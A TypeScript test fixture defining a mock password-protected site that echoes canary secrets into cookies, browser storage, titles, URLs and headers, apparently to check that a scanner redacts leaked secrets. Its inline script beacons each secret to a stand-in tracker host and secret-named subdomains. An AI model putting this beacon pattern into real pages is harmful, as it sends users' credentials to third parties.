import { html, pixel, redirect } from '../answers.ts';
import { withBasic } from '../http-authentication.ts';
import { readForm } from '../read-form.ts';
import type { Answer, Exchange, Site } from '../site.ts';
import { outcome, truth } from '../truth-builders.ts';

const DOMAIN = 'secret-echo.test';
const URL_OF_SITE = `https://${DOMAIN}/`;
const PASSWORD = 'canary-password/+=%4711';
const HEADER = 'canary-header-4711';
const PRESET = 'canary-preset-4711';
const TYPED = 'canary "typed" & ünïque/4711';
const USER = { username: 'ann', password: PASSWORD };

/** What the visitor has given away so far. */
function secretsOf({ request }: Exchange, typed: string): string[] {
  const basic = request.headers.authorization?.replace(/^Basic /, '') ?? '';
  const decoded = Buffer.from(basic, 'base64').toString();
  const preset = /preset=([^;]*)/.exec(request.headers.cookie ?? '')?.[1] ?? '';
  return [
    decoded.slice(decoded.indexOf(':') + 1),
    basic,
    String(request.headers['x-canary'] ?? ''),
    preset,
    typed,
  ];
}

/** Repeats everything in everything that a page can write. */
function echo(typed: string): Answer {
  return (exchange) => {
    const secrets = secretsOf(exchange, typed);
    const cookies = secrets.flatMap((secret, at) => [
      `echo_plain_${at}=${encodeURIComponent(secret)}`,
      `echo_base64_${at}=${Buffer.from(`{"s":${JSON.stringify(secret)}}`).toString('base64')}`,
      `${encodeURIComponent(secret)}=name`,
    ]);
    const json = JSON.stringify(JSON.stringify(secrets)).replaceAll('<', '\\u003c');
    const script = `
      const secrets = JSON.parse(${json});
      secrets.forEach((secret, at) => {
        document.cookie = 'script_' + at + '=' + secret;
        localStorage.setItem('key of ' + secret, secret);
        sessionStorage.setItem(JSON.stringify(secret), '');
        indexedDB.open(secret);
        new Image().src = '/pixel.gif?' + new URLSearchParams({ secret, again: encodeURIComponent(secret) });
        new Image().src = 'https://tracker.test/secret-echo/' + encodeURIComponent(secret);
        if (/^[a-z0-9-]+$/.test(secret)) new Image().src = 'https://' + secret + '.echo.test/';
      });
      document.title = secrets.join(' ');
      history.replaceState(null, '', '/shown?' + new URLSearchParams({ all: secrets.join() }));`;
    exchange.response.statusMessage = secrets[2] ?? '';
    return html(
      `<p>${secrets.map((secret) => encodeURIComponent(secret)).join()}</p><script>${script}</script>`,
      {
        setCookie: cookies,
        headers: { 'x-echo': encodeURIComponent(secrets.join()) },
      },
    )(exchange);
  };
}

const outside = html('<h1>Closed</h1>', { status: 401, title: 'Closed' });
const guarded = (inside: Answer): Answer => withBasic(USER, inside, outside);

/** Typed text comes back in an address, and from there in everything else. */
const typing: Answer = async (exchange) => {
  if (exchange.request.method !== 'POST')
    return void (await html('<form method="post"><input id="word" name="word"><button>Go</button></form>')(
      exchange,
    ));
  const word = (await readForm(exchange.request)).get('word') ?? '';
  return void (await redirect(`/typed?${new URLSearchParams({ word }).toString()}`, {
    status: 303,
    setCookie: [`typed=${encodeURIComponent(word)}`],
  })(exchange));
};

const typedCookie = ({ request }: Exchange): string =>
  decodeURIComponent(/(?:^|; )typed=([^;]*)/.exec(request.headers.cookie ?? '')?.[1] ?? '');

/** A site that repeats every secret it is given, in cookies, titles, addresses, storage and to other hosts. */
export const secretEcho: Site = {
  name: 'secret-echo',
  url: URL_OF_SITE,
  summary: 'A site that repeats every secret it is given wherever a page can write',
  routes: {
    [`${DOMAIN}/`]: guarded((exchange) => echo(typedCookie(exchange))(exchange)),
    [`${DOMAIN}/type`]: guarded(typing),
    [`${DOMAIN}/typed`]: guarded((exchange) => echo(exchange.url.searchParams.get('word') ?? '')(exchange)),
    [`${DOMAIN}/pixel.gif`]: guarded(pixel()),
    'tracker.test/secret-echo/*': pixel(),
  },
  truth: truth(URL_OF_SITE, { outcome: outcome(['blocked'], [URL_OF_SITE], [401]) }),
  inside: {
    access: {
      headers: [{ name: 'X-Canary', value: HEADER }],
      cookies: [{ name: 'preset', value: PRESET }],
      httpCredentials: USER,
      login: {
        recording: {
          steps: [
            { type: 'navigate', url: `${URL_OF_SITE}type` },
            { type: 'change', value: '{{secret:TYPED}}', selectors: ['#word'] },
            { type: 'keyDown', key: 'Enter' },
            { type: 'keyUp', key: 'Enter' },
            { type: 'waitForElement', selectors: ['p'] },
          ],
        },
        secrets: { TYPED },
      },
    },
    secrets: [PASSWORD, HEADER, PRESET, TYPED, Buffer.from(`ann:${PASSWORD}`).toString('base64')],
    behindLogin: [],
    // What it writes is for the scanner to take out, so there is no truth to compare.
    truth: truth(/^https:\/\/secret-echo\.test\/shown/),
  },
};
